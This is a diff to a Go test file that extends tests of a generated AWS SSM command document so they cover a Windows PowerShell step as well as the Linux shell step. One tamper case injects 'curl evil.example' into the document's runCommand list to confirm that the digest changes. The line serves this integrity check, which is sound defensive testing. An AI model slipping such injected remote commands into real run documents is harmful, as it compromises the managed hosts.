@@ -13,7 +13,7 @@ import (
 
 func TestDocumentIsMadeOfTheScript(t *testing.T) {
 	t.Parallel()
-	want, err := documents.Generate(documents.InspectLinux())
+	want, err := documents.Generate(documents.InspectLinux(), documents.InspectWindows())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -29,8 +29,8 @@ func TestScriptComesBackOutOfTheDocument(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if !strings.Contains(got, documents.InspectLinux()) {
-		t.Error("Script(InspectDocument()) does not have the script")
+	if !strings.Contains(got, documents.InspectLinux()) || !strings.Contains(got, documents.InspectWindows()) {
+		t.Error("Script(InspectDocument()) does not have both scripts")
 	}
 	if documents.Digest(got) != documents.InspectDigest() {
 		t.Errorf("Digest = %s, want %s", documents.Digest(got), documents.InspectDigest())
@@ -47,12 +47,13 @@ func TestChangedDocumentHasAnotherDigest(t *testing.T) {
 	t.Parallel()
 	content := documents.InspectDocument()
 	for name, changed := range map[string]string{
-		"a line more":    strings.Replace(content, `"runCommand": [`, `"runCommand": ["curl evil.example",`, 1),
-		"a space":        strings.Replace(content, `"#!/bin/sh"`, `"#!/bin/sh "`, 1),
-		"a step more":    strings.Replace(content, `"mainSteps": [`, `"mainSteps": [{"action":"aws:runShellScript","name":"x"},`, 1),
-		"other action":   strings.Replace(content, "aws:runShellScript", "aws:runPowerShellScript", 1),
-		"other name":     strings.Replace(content, `"name": "inspect"`, `"name": "other"`, 1),
-		"other platform": strings.Replace(content, `"Linux"`, `"MacOS"`, 1),
+		"a line more":     strings.Replace(content, `"runCommand": [`, `"runCommand": ["curl evil.example",`, 1),
+		"a space":         strings.Replace(content, `"#!/bin/sh"`, `"#!/bin/sh "`, 1),
+		"a step more":     strings.Replace(content, `"mainSteps": [`, `"mainSteps": [{"action":"aws:runShellScript","name":"x"},`, 1),
+		"other action":    strings.Replace(content, "aws:runShellScript", "aws:runPowerShellScript", 1),
+		"other name":      strings.Replace(content, `"name": "inspect"`, `"name": "other"`, 1),
+		"other platform":  strings.Replace(content, `"Linux"`, `"MacOS"`, 1),
+		"Windows' script": strings.Replace(content, `"exit 0"`, `"exit 3010"`, 2),
 	} {
 		script, err := documents.Script(changed)
 		if err != nil {
@@ -82,12 +83,17 @@ func TestDocument(t *testing.T) {
 	if err := json.Unmarshal([]byte(documents.InspectDocument()), &d); err != nil {
 		t.Fatal(err)
 	}
-	step := d.MainSteps[0]
-	if d.SchemaVersion != "2.2" || len(d.MainSteps) != 1 || step.Action != "aws:runShellScript" || step.Inputs.TimeoutSeconds != "45" {
-		t.Errorf("document = %+v, want one aws:runShellScript of schema 2.2 with 45 seconds", d)
+	if d.SchemaVersion != "2.2" || len(d.MainSteps) != 2 {
+		t.Fatalf("document of schema %s with %d steps, want 2.2 with one a platform", d.SchemaVersion, len(d.MainSteps))
 	}
-	if diff := cmp.Diff(map[string][]string{"StringEquals": {"platformType", "Linux"}}, step.Precondition); diff != "" {
-		t.Errorf("precondition (-want +got):\n%s", diff)
+	for i, want := range []struct{ action, platform string }{{"aws:runShellScript", "Linux"}, {"aws:runPowerShellScript", "Windows"}} {
+		step := d.MainSteps[i]
+		if step.Action != want.action || step.Inputs.TimeoutSeconds != "45" {
+			t.Errorf("step %d is %s with %s seconds, want %s with 45", i, step.Action, step.Inputs.TimeoutSeconds, want.action)
+		}
+		if diff := cmp.Diff(map[string][]string{"StringEquals": {"platformType", want.platform}}, step.Precondition); diff != "" {
+			t.Errorf("precondition of step %d (-want +got):\n%s", i, diff)
+		}
 	}
 	if len(documents.InspectDocument()) > 60<<10 {
 		t.Errorf("document of %d bytes, want room for parameters below SSM's 64 KiB", len(documents.InspectDocument()))
@@ -189,12 +195,14 @@ func TestScriptRefusesOddParameters(t *testing.T) {
 
 func TestGeneratorSource(t *testing.T) {
 	t.Parallel()
-	onDisk, err := os.ReadFile("inspect.linux.sh")
-	if err != nil {
-		t.Fatal(err)
-	}
-	if string(onDisk) != documents.InspectLinux() {
-		t.Error("the embedded script is not the one on disk")
+	for name, embedded := range map[string]string{"inspect.linux.sh": documents.InspectLinux(), "inspect.windows.ps1": documents.InspectWindows()} {
+		onDisk, err := os.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if string(onDisk) != embedded {
+			t.Errorf("the embedded %s is not the one on disk", name)
+		}
 	}
 }
 
